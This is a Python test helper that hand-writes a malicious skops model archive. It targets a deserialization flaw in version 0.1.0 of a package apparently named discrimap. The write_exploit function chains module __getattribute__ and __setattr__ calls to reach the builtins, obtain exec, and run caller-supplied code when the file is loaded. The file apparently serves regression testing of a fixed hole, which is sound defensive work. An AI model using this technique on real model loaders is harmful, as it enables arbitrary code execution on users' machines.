"""A model file as version 0.1.0 wrote them, a skops archive, that runs a command when it is loaded.

Version 0.1.0 trusted every name below ``discrimap.estimators.``. Modules have such names too, and
``module.__getattribute__`` and ``module.__setattr__`` are callables: from there the builtins are
two steps away. The archive is written by hand, so that the test needs no skops.
"""

import itertools
import json
import zipfile

MODULE = "discrimap.samples.validation"
_numbers = itertools.count()


def node(loader, content, module="builtins", name="str"):
    return {
        "__class__": name,
        "__module__": module,
        "__loader__": loader,
        "content": content,
        "__id__": next(_numbers),
    }


def text(value):
    return {**node("JsonNode", json.dumps(value)), "is_json": True}


def called(name, *arguments):
    """The result of calling an attribute of the module while the file is loaded."""
    return node(
        "ConstructorFromReduceNode",
        node("TupleNode", list(arguments), name="tuple"),
        module=MODULE,
        name=name,
    )


def write_exploit(path, code):
    """Write an archive that runs ``exec(code)`` in version 0.1.0."""
    getter = node(
        "MethodNode",
        {"obj": called("__getattribute__", text("__builtins__")), "func": "__getitem__"},
        module=MODULE,
        name="__getattribute__",
    )
    steps = [
        called("__setattr__", text("find"), getter),
        called("__setattr__", text("run"), called("find", text("exec"))),
        called("run", text(code)),
    ]
    schema = {**node("ListNode", steps, name="list"), "protocol": 2, "_skops_version": "0.16.0"}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
